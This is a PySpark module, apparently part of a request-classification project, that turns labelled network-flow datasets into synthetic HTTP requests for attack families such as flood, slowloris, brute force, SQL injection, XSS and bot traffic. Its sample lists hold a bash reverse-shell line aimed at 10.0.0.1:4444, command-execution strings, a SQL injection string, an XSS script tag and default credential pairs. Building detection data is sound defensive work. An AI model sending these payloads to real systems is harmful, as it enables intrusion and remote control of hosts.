"""Foreign corpora to labelled requests: payload wrapping, flow templates, full requests."""

from __future__ import annotations

from pyspark.sql import Column
from pyspark.sql import functions as F

from reqlens.functions import url
from reqlens.functions.hashing import h32, pick

SEED = 42

# Header, endpoint and payload lists of the curation step.
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
]
ACCEPT = "text/html,application/xhtml+xml,*/*"
FORM_TYPE = "application/x-www-form-urlencoded"
FLOOD_URIS = ["/", "/index.html", "/api/data", "/search", "/home"]
BOT_PAYLOADS = [
    "cmd=whoami",
    "exec=ls+-la",
    "shell=bash+-i+>&+/dev/tcp/10.0.0.1/4444+0>&1",
    "payload=dXNlcjpwYXNz",
    "data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
REST_ENDPOINTS = [
    ("GET", "/api/users"),
    ("GET", "/api/users/{id}"),
    ("GET", "/api/products"),
    ("GET", "/api/products/{id}"),
    ("GET", "/api/orders"),
    ("GET", "/api/orders/{id}"),
    ("GET", "/api/categories"),
    ("GET", "/api/search?q=laptop"),
    ("GET", "/api/search?q=phone"),
    ("GET", "/api/profile"),
    ("POST", "/api/users"),
    ("POST", "/api/orders"),
    ("PUT", "/api/users/{id}"),
    ("DELETE", "/api/users/{id}"),
]
BENIGN_BODY = "name=test&value=123"
# Label text, family, template; the first text contained in a label decides.
FLOW_LABELS = [
    ("ddos", "ddos", "flood"),
    ("dos goldeneye", "dos", "flood"),
    ("dos hulk", "dos", "flood"),
    ("dos slowhttptest", "dos", "slowloris"),
    ("dos slowloris", "dos", "slowloris"),
    ("heartbleed", "heartbleed", "heartbleed"),
    ("portscan", "portscan", "portscan"),
    ("bot", "bot", "bot"),
    ("ftp-patator", "brute_force", "ftp_brute"),
    ("ssh-patator", "brute_force", "ssh_brute"),
    ("web attack � brute force", "brute_force", "web_brute"),
    ("web attack � sql injection", "sqli", "sqli"),
    ("web attack � xss", "xss", "xss"),
    ("infiltration", "infiltration", "infiltration"),
]
UNKNOWN_FLOW = ("unknown_attack", "flood")
# Template, path, form body.
LOGIN_TEMPLATES = [
    ("ftp_brute", "/ftp/login", "username=admin&password=password123"),
    ("ssh_brute", "/ssh/login", "username=root&password=toor"),
    ("web_brute", "/login", "username=admin&password=admin"),
]
TEMPLATE_PAYLOADS = [("sqli", "' OR '1'='1"), ("xss", "<script>alert(1)</script>")]
INFILTRATION_BODY = "\\x00\\x01\\x02\\x03" * 16
# Source column, header name.
REQUEST_HEADERS = [
    ("User-Agent", "User-Agent"),
    ("Accept", "Accept"),
    ("content-type", "Content-Type"),
    ("cookie", "Cookie"),
    ("host", "Host"),
]


def base_headers(key: Column, extra: dict[str, Column] | None = None) -> Column:
    """Browser-like headers; the user agent is chosen by hash of the row key."""
    entries = [
        F.lit("User-Agent"), pick(key, SEED + 1, USER_AGENTS),
        F.lit("Accept"), (extra or {}).get("Accept", F.lit(ACCEPT)),
        F.lit("Host"), F.lit("localhost"),
    ]
    for name, value in (extra or {}).items():
        if name != "Accept":
            entries += [F.lit(name), value]
    return F.create_map(*entries)


def _request(method: Column | str, uri: Column | str, headers: Column, body: Column | str) -> Column:
    def col(x: Column | str) -> Column:
        return x if isinstance(x, Column) else F.lit(x)

    return F.struct(
        col(method).alias("method"), col(uri).alias("uri"), headers.alias("headers"), col(body).alias("body")
    )


def wrap_payload(payload: Column, key: Column | None = None) -> Column:
    """Payload in a query, a form body or a custom header; the place is chosen by hash."""
    key = payload if key is None else key
    place = F.pmod(h32(key, SEED), F.lit(3))
    query = _request("GET", F.concat(F.lit("/search?q="), payload), base_headers(key), "")
    form = _request(
        "POST", "/submit", base_headers(key, {"Content-Type": F.lit(FORM_TYPE)}), F.concat(F.lit("data="), payload)
    )
    header = _request("GET", "/api/resource", base_headers(key, {"X-Custom-Input": payload}), "")
    return F.when(place == 0, query).when(place == 1, form).otherwise(header)


def flow_family(label: Column) -> Column:
    """``STRUCT<family,template>`` of a network-flow label."""
    low = F.lower(F.trim(label))

    def pair(family: str, template: str) -> Column:
        return F.struct(F.lit(family).alias("family"), F.lit(template).alias("template"))

    out = F.when(low == "benign", pair("benign", "benign"))
    for text, family, template in FLOW_LABELS:
        out = out.when(low.contains(text), pair(family, template))
    return out.otherwise(pair(*UNKNOWN_FLOW))


def flow_request(template: Column, key: Column, port: Column, packet_length: Column) -> Column:
    """Representative request of a flow template."""
    form = {"Content-Type": F.lit(FORM_TYPE)}
    port = F.coalesce(F.nullif(port.cast("int"), F.lit(0)), F.lit(80))
    fill = F.least(F.coalesce(F.nullif(packet_length.cast("int"), F.lit(0)), F.lit(512)), F.lit(2048))
    slow = {"Connection": F.lit("keep-alive"), "Content-Length": F.lit("9999999")}
    endpoint = pick(key, SEED + 2, [F.struct(F.lit(m).alias("m"), F.lit(u).alias("u")) for m, u in REST_ENDPOINTS])
    number = (F.pmod(h32(key, SEED + 3), F.lit(199)) + 1).cast("string")
    writes = endpoint["m"].isin("POST", "PUT")
    benign_headers = F.when(
        writes, base_headers(key, {"Content-Type": F.lit("application/json")})
    ).otherwise(base_headers(key))

    out = F.when(
        template == "benign",
        _request(
            endpoint["m"],
            F.replace(endpoint["u"], F.lit("{id}"), number),
            benign_headers,
            F.when(writes, BENIGN_BODY).otherwise(""),
        ),
    )
    out = out.when(template == "flood", _request("GET", pick(key, SEED + 4, FLOOD_URIS), base_headers(key), ""))
    out = out.when(template == "slowloris", _request("POST", "/", base_headers(key, slow), ""))
    out = out.when(
        template == "heartbleed",
        _request("GET", "/", base_headers(key, {"Accept": F.repeat(F.lit("A"), fill)}), ""),
    )
    out = out.when(
        template == "portscan", _request("GET", F.concat(F.lit("/port-"), port.cast("string")), base_headers(key), "")
    )
    out = out.when(
        template == "bot", _request("POST", "/api/exec", base_headers(key, form), pick(key, SEED + 5, BOT_PAYLOADS))
    )
    for name, path, body in LOGIN_TEMPLATES:
        out = out.when(template == name, _request("POST", path, base_headers(key, form), body))
    for name, payload in TEMPLATE_PAYLOADS:
        out = out.when(template == name, wrap_payload(F.lit(payload), key))
    binary = {"Content-Type": F.lit("application/octet-stream")}
    out = out.when(
        template == "infiltration", _request("POST", "/upload", base_headers(key, binary), INFILTRATION_BODY)
    )
    return out.otherwise(_request("GET", "/", base_headers(key), ""))


def present(value: Column) -> Column:
    """Trimmed text, or null when blank or the text ``nan``."""
    trimmed = F.trim(value.cast("string"))
    return F.when((trimmed != "") & (F.lower(trimmed) != "nan"), trimmed)


def full_request_uri(raw: Column) -> Column:
    """Path and query of a request line's target, protocol suffix cut."""
    target = F.trim(F.substring_index(F.trim(raw), " HTTP/", 1))
    path, query = url.path_of(target), url.query_of(target)
    return F.concat(
        F.when(path == "", "/").otherwise(path),
        F.when(query == "", "").otherwise(F.concat(F.lit("?"), query)),
    )


def full_request_headers(columns: dict[str, Column]) -> Column:
    """Header map of the header columns that hold a value."""
    entries = []
    for source, name in REQUEST_HEADERS:
        if source in columns:
            entries += [F.lit(name), present(columns[source])]
    if not entries:
        return F.create_map().cast("map<string,string>")
    return F.map_filter(F.create_map(*entries), lambda _, v: v.isNotNull())


def sentence_label(raw: Column) -> Column:
    """0 or 1, truncated from a decimal text; null when it is not a number."""
    number = F.trim(raw.cast("string")).try_cast("double")
    return F.when(~F.isnan(number), number.try_cast("int"))


def sentence_skip_reason(sentence: Column, label: Column) -> Column:
    value = sentence_label(label)
    return (
        F.when(present(sentence).isNull(), "empty or null sentence")
        .when(value.isNull(), "malformed label")
        .when(~value.isin(0, 1), "unexpected label")
    )
